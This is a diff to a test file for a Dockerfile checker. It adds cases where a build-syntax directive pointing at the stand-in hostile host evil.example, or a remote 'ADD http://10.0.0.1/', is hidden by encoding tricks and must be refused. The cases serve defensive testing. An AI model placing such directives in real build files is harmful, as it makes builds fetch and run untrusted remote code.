@@ -6,6 +6,7 @@ test("the arguments that a Dockerfile declares are found in all stages, with and
     "ARG BASE=scratch\nFROM ${BASE} AS one\nARG VERSION\nARG FIRST=1 SECOND\nRUN echo \\\n ARG no\n# ARG neither\n",
   );
   expect([...declaredArguments]).toEqual(["BASE", "VERSION", "FIRST", "SECOND"]);
+  expect([...readDockerfile("ARG BUILDKIT_SYNTAX\nFROM x\n").declaredArguments]).toEqual([]);
 });
 
 test.each([
@@ -17,6 +18,12 @@ test.each([
   ['FROM x\nADD --chown=0:0 ["\\u0068ttp://10.0.0.1/", "/x"]', /ADD http/],
   ["FROM x\nONBUILD ADD http://10.0.0.1/ /x", /ADD http/],
   ["# syntax=evil.example/frontend\nFROM x", /syntax/],
+  ["#!/usr/bin/env docker\n#syntax = evil.example/frontend\nFROM x", /syntax/],
+  ["# escape=`\n#\u0085syntax=evil.example/frontend\nFROM x", /syntax/],
+  ["\uFEFF# syntax=evil.example/frontend\nFROM x", /syntax/],
+  ["//syntax=evil.example/frontend\nFROM x", /syntax/],
+  ['{"syntax": "evil.example/frontend"}', /JSON/],
+  ["FROM x\nRUN cat <<a</dev/null\nADD http://10.0.0.1/ /x", /here-document/],
 ])("a Dockerfile whose parts the engine would fetch or run itself is refused: %j", (text, reason) => {
   expect(readDockerfile(text).refusals).toEqual([expect.stringMatching(reason)]);
 });
@@ -25,6 +32,8 @@ test.each([
   "# syntax=docker/dockerfile:1.7\nFROM x\nCOPY a /a",
   "FROM x\nADD a.tar.gz /\nRUN curl https://example.com | tar x",
   "FROM x\nRUN <<EOF\nADD http://x /y\nEOF\n",
+  "FROM x\nRUN <<EOF\n# syntax=of another file\nEOF\n",
+  "# syntax=docker/dockerfile:1\n",
 ])("a usual Dockerfile is not refused: %j", (text) => {
   expect(readDockerfile(text).refusals).toEqual([]);
 });
